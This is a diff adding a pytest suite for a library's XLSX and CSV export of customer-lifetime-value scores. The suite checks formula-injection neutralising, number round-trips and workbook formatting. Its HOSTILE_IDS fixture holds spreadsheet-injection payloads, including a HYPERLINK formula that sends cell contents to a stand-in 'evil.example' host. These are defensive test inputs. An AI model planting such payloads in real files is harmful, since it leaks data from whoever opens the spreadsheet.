@@ -1,0 +1,369 @@
+"""Tests of clvlab.export: XLSX workbook and CSV of the scoring table."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+import subprocess
+import warnings
+
+import numpy as np
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from clvlab.exceptions import ClvlabWarning, InvalidValueError
+from clvlab.export import (
+    FORMULA_TRIGGERS,
+    neutralise_series,
+    neutralise_text,
+    prediction_labels,
+    write_csv,
+    write_workbook,
+)
+from clvlab.scoring import SCORE_COLUMNS, SEGMENTS
+
+HOSTILE_IDS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1)",
+    "+1",
+    "-2",
+    "=1+1",
+    "\tcmd",
+    "\r=2",
+]
+SAFE_IDS = ["17", "C-1042", "alice@example.com", "  =padded"]
+
+
+def _scores(ids: list[str], rng: np.random.Generator) -> pd.DataFrame:
+    """A scoring table shaped like score_customers' output, with made-up numbers."""
+    n = len(ids)
+    freq = rng.integers(0, 6, n).astype(float)
+    T = rng.uniform(10, 78, n)
+    rec = np.where(freq > 0, T * rng.uniform(0, 1, n), 0.0)
+    frame = pd.DataFrame(
+        {
+            "frequency": freq,
+            "recency": rec,
+            "T": T,
+            "monetary_value": np.where(freq > 0, rng.gamma(3, 10, n), 0.0),
+            "probability_alive": rng.uniform(0, 1, n),
+            "expected_purchases": rng.uniform(0, 4, n),
+            "expected_spend": rng.gamma(3, 10, n),
+            "clv": rng.normal(50, 40, n),  # some negative: numbers must stay numbers
+            "clv_baseline": rng.gamma(2, 20, n),
+            "historical_spend": rng.gamma(2, 30, n),
+            "segment": pd.Categorical(
+                [SEGMENTS[i % len(SEGMENTS)] for i in range(n)], categories=list(SEGMENTS)
+            ),
+        },
+        index=pd.Index(ids, name="customer_id"),
+    )
+    return frame
+
+
+@pytest.fixture
+def hostile_scores(rng: np.random.Generator) -> pd.DataFrame:
+    return _scores(HOSTILE_IDS + SAFE_IDS, rng)
+
+
+def _sheet_rows(path, title):
+    wb = load_workbook(path)
+    ws = wb[title]
+    return ws, [list(r) for r in ws.iter_rows()]
+
+
+# -- neutralising --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", HOSTILE_IDS)
+def test_neutralise_text_prefixes_formula_triggers(value):
+    """Text starting with = + - @ tab or CR gets a leading apostrophe."""
+    assert neutralise_text(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", SAFE_IDS + ["", "'=already"])
+def test_neutralise_text_leaves_safe_text(value):
+    """Text that cannot start a formula is left unchanged."""
+    assert neutralise_text(value) == value
+
+
+@given(st.text(max_size=30))
+def test_neutralised_text_never_starts_a_formula(value):
+    """After neutralising, no text starts with a trigger, and only a prefix was added."""
+    out = neutralise_text(value)
+    assert not out or out[0] not in FORMULA_TRIGGERS
+    assert out in (value, "'" + value)
+    assert neutralise_text(out) == out  # idempotent
+
+
+@given(st.lists(st.one_of(st.text(max_size=10), st.none(), st.integers()), max_size=20))
+def test_neutralise_series_matches_scalar_version(values):
+    """The vectorised version agrees with neutralise_text element by element."""
+    out = neutralise_series(pd.Series(values, dtype=object)).tolist()
+    expected = [None if v is None else neutralise_text(str(v)) for v in values]
+    assert out == expected
+
+
+# -- CSV -----------------------------------------------------------------------------
+
+
+def test_csv_neutralises_hostile_ids_and_keeps_numbers(tmp_path, hostile_scores):
+    """CSV: hostile ids arrive as apostrophe-prefixed text; numbers are untouched."""
+    path = write_csv(tmp_path / "p.csv", hostile_scores)
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[0] == ["customer_id", *SCORE_COLUMNS]
+    ids = [r[0] for r in rows[1:]]
+    assert ids == [neutralise_text(i) for i in HOSTILE_IDS + SAFE_IDS]
+    assert all(not i or i[0] not in FORMULA_TRIGGERS for i in ids)
+    back = pd.read_csv(path, dtype={"customer_id": str}, keep_default_na=False)
+    np.testing.assert_allclose(  # rtol=0: full float precision survives the round trip
+        back["clv"].to_numpy(dtype=float), hostile_scores["clv"].to_numpy(), rtol=0
+    )
+    assert (hostile_scores["clv"] < 0).any()
+
+
+def test_csv_round_trips_every_column(tmp_path, rng):
+    """CSV read back with pandas equals the scoring table, NaN as empty fields."""
+    scores = _scores([f"c{i}" for i in range(200)], rng)
+    scores.loc["c3", "clv_baseline"] = np.nan
+    write_csv(tmp_path / "p.csv", scores)
+    back = pd.read_csv(tmp_path / "p.csv", index_col="customer_id")
+    num = [c for c in SCORE_COLUMNS if c != "segment"]
+    np.testing.assert_allclose(back[num].to_numpy(), scores[num].to_numpy(), rtol=0)
+    assert np.isnan(back.loc["c3", "clv_baseline"])
+    assert back["segment"].tolist() == scores["segment"].astype(str).tolist()
+
+
+@settings(max_examples=25, deadline=None)
+@given(st.lists(st.text(min_size=1, max_size=8), min_size=1, max_size=8, unique=True))
+def test_csv_ids_read_back_as_neutralised_text(tmp_path_factory, ids):
+    """Any customer id (quotes, commas, newlines) survives the CSV as its neutralised text."""
+    path = tmp_path_factory.mktemp("csv") / "p.csv"
+    scores = pd.DataFrame(
+        {"clv": np.arange(len(ids), dtype=float)}, index=pd.Index(ids, name="customer_id")
+    )
+    write_csv(path, scores)
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    assert [r[0] for r in rows[1:]] == [neutralise_text(i) for i in ids]
+
+
+# -- XLSX ----------------------------------------------------------------------------
+
+
+def test_workbook_has_the_documented_sheets(tmp_path, hostile_scores):
+    """Sheets: Predictions, Parameters, Holdout metrics, Deciles, Data quality, About."""
+    write_workbook(tmp_path / "p.xlsx", hostile_scores)
+    assert load_workbook(tmp_path / "p.xlsx").sheetnames == [
+        "Predictions",
+        "Parameters",
+        "Holdout metrics",
+        "Deciles",
+        "Data quality",
+        "About",
+    ]
+
+
+def test_workbook_neutralises_hostile_ids(tmp_path, hostile_scores):
+    """XLSX: hostile ids are text cells with a leading apostrophe, never formulas."""
+    write_workbook(
+        tmp_path / "p.xlsx",
+        hostile_scores,
+        data_quality=[{"check": "=cmd", "action": "-x", "count": 1, "examples": ["@SUM(1)"]}],
+        metadata={"source": "=evil()"},
+    )
+    wb = load_workbook(tmp_path / "p.xlsx")
+    for ws in wb:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.value[0] not in FORMULA_TRIGGERS, (ws.title, cell.value)
+    ids = [c.value for c in wb["Predictions"]["A"][1:]]
+    # XML parsers normalise a CR to LF on reading; the cell is still neutralised text
+    assert ids == [neutralise_text(i).replace("\r", "\n") for i in HOSTILE_IDS + SAFE_IDS]
+    dq = [c.value for c in wb["Data quality"][2]]
+    assert dq[:2] == ["'=cmd", "'-x"]
+
+
+def test_workbook_numbers_equal_the_scores(tmp_path, rng):
+    """Predictions read back equal the scoring table (numbers as numbers, NaN as empty)."""
+    scores = _scores([f"{i}" for i in range(300)], rng)
+    scores.loc["7", "clv_baseline"] = np.nan
+    scores.loc["8", "clv"] = np.inf
+    write_workbook(tmp_path / "p.xlsx", scores)
+    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
+    body = rows[1:]
+    assert [r[0].value for r in body] == scores.index.tolist()
+    for j, col in enumerate(SCORE_COLUMNS[:-1], start=1):
+        got = np.array([np.nan if r[j].value is None else r[j].value for r in body], float)
+        want = scores[col].to_numpy(dtype=float)
+        want = np.where(np.isfinite(want), want, np.nan)
+        # openpyxl writes 16 significant digits, so the last bit may differ
+        np.testing.assert_allclose(got, want, rtol=2e-16 * 8, equal_nan=True, err_msg=col)
+        assert all(r[j].data_type == "n" for r in body if r[j].value is not None)
+    assert [r[-1].value for r in body] == scores["segment"].astype(str).tolist()
+
+
+def test_workbook_formatting(tmp_path, hostile_scores):
+    """Header bold and filled, frozen first row, autofilter over the data, number formats."""
+    write_workbook(tmp_path / "p.xlsx", hostile_scores, metadata={"time_unit": "W", "horizon": 52})
+    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
+    header = rows[0]
+    assert all(c.font.bold for c in header)
+    assert header[0].fill.fgColor.rgb.endswith("1F4E78")
+    assert ws.freeze_panes == "A2"
+    n = len(hostile_scores)
+    assert ws.auto_filter.ref == f"A1:L{n + 1}"
+    labels = [c.value for c in header]
+    assert labels == prediction_labels(["customer_id", *SCORE_COLUMNS], time_unit="W", horizon=52)
+    assert "CLV (next 52 weeks)" in labels
+    fmt = {lab: rows[1][j].number_format for j, lab in enumerate(labels)}
+    assert fmt["P(alive)"] == "0.0%"
+    assert fmt["CLV (next 52 weeks)"] == "#,##0.00"
+    assert fmt["Recency (weeks)"] == "0.00"
+    widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKL"]
+    assert all(8 <= w <= 60 for w in widths)
+
+
+def test_workbook_parameters_metrics_deciles_sheets(tmp_path, hostile_scores):
+    """Parameters get a model column; metrics are one row per metric; deciles as given."""
+    summary = pd.DataFrame(
+        {"estimate": [0.24, 4.4], "se": [0.01, 0.4], "lower": [0.22, 3.7], "upper": [0.27, 5.2]},
+        index=pd.Index(["r", "alpha"], name="parameter"),
+    )
+    metrics = pd.DataFrame(
+        {"purchases_mae": [0.78, np.nan], "top_decile_capture": [0.47, 0.49]},
+        index=pd.Index(["BG/NBD", "Baseline"], name="model"),
+    )
+    deciles = pd.DataFrame({"model": ["BG/NBD"] * 2, "decile": [1, 2], "actual_share": [0.5, 0.2]})
+    write_workbook(
+        tmp_path / "p.xlsx",
+        hostile_scores,
+        parameters={"BG/NBD": summary},
+        metrics=metrics,
+        deciles=deciles,
+    )
+    _, params = _sheet_rows(tmp_path / "p.xlsx", "Parameters")
+    assert [c.value for c in params[0]] == [
+        "model",
+        "parameter",
+        "estimate",
+        "se",
+        "lower",
+        "upper",
+    ]
+    assert [c.value for c in params[2]] == ["BG/NBD", "alpha", 4.4, 0.4, 3.7, 5.2]
+    _, met = _sheet_rows(tmp_path / "p.xlsx", "Holdout metrics")
+    assert [c.value for c in met[0]] == ["metric", "BG/NBD", "Baseline"]
+    assert [c.value for c in met[1]] == ["purchases_mae", 0.78, None]
+    _, dec = _sheet_rows(tmp_path / "p.xlsx", "Deciles")
+    assert [c.value for c in dec[1]] == ["BG/NBD", 1, 0.5]
+
+
+def test_workbook_notes_when_no_holdout(tmp_path, hostile_scores):
+    """Without metrics or deciles the sheets carry a note saying there was no holdout."""
+    write_workbook(tmp_path / "p.xlsx", hostile_scores)
+    _, met = _sheet_rows(tmp_path / "p.xlsx", "Holdout metrics")
+    assert "No holdout period" in met[1][0].value
+
+
+def test_workbook_splits_rows_beyond_the_sheet_limit(tmp_path, rng):
+    """More customers than a sheet holds continue on further sheets, with a warning."""
+    scores = _scores([str(i) for i in range(25)], rng)
+    with pytest.warns(ClvlabWarning, match="25 customers exceed the 9 rows"):
+        write_workbook(tmp_path / "p.xlsx", scores, max_rows_per_sheet=10)
+    wb = load_workbook(tmp_path / "p.xlsx")
+    assert wb.sheetnames[:3] == ["Predictions", "Predictions (2)", "Predictions (3)"]
+    ids = []
+    for title in wb.sheetnames[:3]:
+        col = [c.value for c in wb[title]["A"]]
+        assert col[0] == "Customer ID"
+        ids += col[1:]
+    assert ids == scores.index.tolist()
+    about = {r[0].value: r[1].value for r in wb["About"].iter_rows(min_row=2)}
+    assert "3 sheets" in about["Note"]
+
+
+def test_workbook_replaces_xml_illegal_characters(tmp_path, rng):
+    """Control characters XLSX cannot hold become U+FFFD in the workbook, kept in the CSV."""
+    scores = _scores(["ok\x01id", "b"], rng)
+    write_workbook(tmp_path / "p.xlsx", scores)
+    write_csv(tmp_path / "p.csv", scores)
+    ws, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
+    assert rows[1][0].value == "ok\ufffdid"
+    assert pd.read_csv(tmp_path / "p.csv", dtype=str)["customer_id"][0] == "ok\x01id"
+
+
+def test_workbook_accepts_an_empty_table(tmp_path):
+    """A table with no customers still gives a valid workbook with a header row."""
+    empty = pd.DataFrame({"clv": pd.Series(dtype=float)}, index=pd.Index([], name="customer_id"))
+    write_workbook(tmp_path / "p.xlsx", empty)
+    _, rows = _sheet_rows(tmp_path / "p.xlsx", "Predictions")
+    assert [c.value for c in rows[0]] == ["Customer ID", "CLV"]
+    assert len(rows) == 1
+
+
+def test_duplicate_ids_are_rejected(tmp_path, rng):
+    """Duplicate customer ids raise InvalidValueError naming the column and the ids."""
+    scores = _scores(["a", "b", "a"], rng)
+    with pytest.raises(InvalidValueError, match="customer_id.*unique.*'?a'?"):
+        write_csv(tmp_path / "p.csv", scores)
+    with pytest.raises(InvalidValueError, match="unique"):
+        write_workbook(tmp_path / "p.xlsx", scores)
+
+
+def test_non_dataframe_is_a_type_error(tmp_path):
+    """Passing something other than a DataFrame raises TypeError with a hint."""
+    with pytest.raises(TypeError, match="score_customers"):
+        write_csv(tmp_path / "p.csv", [1, 2, 3])  # type: ignore[arg-type]
+
+
+def test_data_quality_examples_are_joined(tmp_path, hostile_scores):
+    """Data-quality examples (a list) are written as one '; '-separated text cell."""
+    dq = [{"check": "zero amounts", "action": "kept", "count": 8, "examples": ["row 2", "row 9"]}]
+    write_workbook(tmp_path / "p.xlsx", hostile_scores, data_quality=dq)
+    _, rows = _sheet_rows(tmp_path / "p.xlsx", "Data quality")
+    assert [c.value for c in rows[1]] == ["zero amounts", "kept", 8, "row 2; row 9"]
+
+
+def _soffice() -> str | None:
+    return shutil.which("soffice") or shutil.which("libreoffice")
+
+
+@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_opens_the_workbook(tmp_path, hostile_scores):
+    """LibreOffice converts the workbook to CSV with the neutralised ids and the numbers."""
+    write_workbook(tmp_path / "p.xlsx", hostile_scores)
+    outdir = tmp_path / "lo"
+    subprocess.run(
+        [
+            _soffice(),
+            "--headless",
+            "--convert-to",
+            "csv",
+            "--outdir",
+            str(outdir),
+            str(tmp_path / "p.xlsx"),
+        ],
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    with open(outdir / "p.csv", newline="", encoding="utf-8", errors="replace") as fh:
+        rows = list(csv.reader(fh))
+    assert len(rows) == len(hostile_scores) + 1
+    for row, cid in zip(rows[1:], hostile_scores.index, strict=True):
+        # LibreOffice shows the apostrophe-prefixed text, never a computed formula value
+        assert row[0].lstrip("'") == neutralise_text(cid).lstrip("'") or row[0] == cid
+
+
+def test_no_warning_for_a_normal_workbook(tmp_path, hostile_scores):
+    """Writing a workbook within the row limit issues no warning."""
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        write_workbook(tmp_path / "p.xlsx", hostile_scores)
